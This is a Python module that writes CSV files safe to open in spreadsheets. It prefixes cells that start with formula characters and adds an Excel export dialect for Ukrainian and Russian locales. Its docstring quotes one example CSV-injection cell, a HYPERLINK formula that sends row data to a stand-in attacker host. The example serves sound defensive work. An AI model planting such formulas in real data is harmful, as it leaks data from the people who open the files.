"""CSV that is safe to open in a spreadsheet: the one way this app writes CSV.

Why: guests and users choose their own names, and tutors name their services. A cell
such as `=HYPERLINK("http://evil.example/?g="&B2,"guest")` is a formula to Excel,
LibreOffice and Google Sheets: opened by an admin it can send the row's data away or,
with DDE, run commands (OWASP "CSV Injection"). Every CSV the app produces writes its
cells through `safe_cell()` (`csv_bytes()`, and `excel_csv_stream()` that the exports, the
reports and the admin use), so no cell reaches a spreadsheet as a formula.

`safe_cell()` follows OWASP: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return (also after leading whitespace, which spreadsheets skip) gets a leading
`'`, which spreadsheets show as text and do not evaluate. Plain numbers (`-5`, `12.50`)
are left alone: a number is never a formula, and negative Telegram chat ids stay readable.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from datetime import date, datetime, tzinfo
from decimal import Decimal

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"
_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_LEADING_BLANKS = " \t\r\n\x0b\x0c"


def safe_cell(value: object) -> object:
    """The value to write into a CSV cell; text that a spreadsheet would evaluate is
    prefixed with `'` (see the module docstring). None becomes an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    if not text or _NUMBER.fullmatch(text):
        return text
    if text.startswith(FORMULA_PREFIXES) or text.lstrip(_LEADING_BLANKS).startswith(
        FORMULA_PREFIXES
    ):
        return NEUTRALISER + text
    return text


def csv_bytes(header: Iterable[object], rows: Iterable[Iterable[object]]) -> bytes:
    """UTF-8 CSV (RFC 4180 quoting by the csv module) with every cell through safe_cell()."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return out.getvalue().encode("utf-8")


# --- spreadsheet exports (issue 18): Excel in a Ukrainian/Russian locale -----------------
#
# Why this dialect: Excel picks the CSV separator from the system's list separator, which
# is ";" in uk-UA / ru-RU (their decimal separator is ","), and reads a file as UTF-8 only
# when it starts with a byte-order mark; without one, Cyrillic names turn into mojibake.
# So: BOM, ";", CRLF, amounts with a decimal comma (Excel there reads "12,50" as a number
# and "12.50" as text or a date), instants in ISO-8601 with the viewer's UTC offset.

BOM = "\ufeff"
EXCEL_SEPARATOR = ";"
FLUSH_ROWS = 500  # rows per chunk handed to the response: small enough for constant memory


def excel_cell(value: object, tz: tzinfo | None = None) -> object:
    """One cell for the Excel dialect: instants in ``tz`` (ISO-8601 with offset), dates as
    ISO, Decimal amounts with a decimal comma, booleans as yes/no, text through
    ``safe_cell`` (formula-neutralised). A number is never a formula, so amounts skip it."""
    if isinstance(value, datetime):
        return (value.astimezone(tz) if tz is not None else value).isoformat(timespec="seconds")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, Decimal | float):  # as precise as stored ("12.50" -> "12,50")
        return (
            f"{value:f}".replace(".", ",")
            if isinstance(value, Decimal)
            else repr(value).replace(".", ",")
        )
    if isinstance(value, bool):
        return "yes" if value else "no"
    return safe_cell(value)


def excel_csv_stream(
    header: Iterable[object],
    rows: Iterable[Iterable[object]],
    *,
    tz: tzinfo | None = None,
    flush_rows: int = FLUSH_ROWS,
) -> Iterator[bytes]:
    """The CSV as byte chunks (BOM first, then the header row, then ``flush_rows`` rows
    per chunk). ``rows`` may be a lazy iterator over a server-side cursor: nothing here
    holds more than one chunk, so 100,000 rows take the memory of 500."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=EXCEL_SEPARATOR, lineterminator="\r\n")
    out.write(BOM)
    writer.writerow([excel_cell(h) for h in header])
    pending = 0
    for row in rows:
        writer.writerow([excel_cell(v, tz) for v in row])
        pending += 1
        if pending >= flush_rows:
            yield out.getvalue().encode("utf-8")
            out.seek(0)
            out.truncate()
            pending = 0
    yield out.getvalue().encode("utf-8")


def excel_csv_bytes(
    header: Iterable[object], rows: Iterable[Iterable[object]], *, tz: tzinfo | None = None
) -> bytes:
    """The whole Excel-dialect CSV at once (small exports: reports)."""
    return b"".join(excel_csv_stream(header, rows, tz=tz))
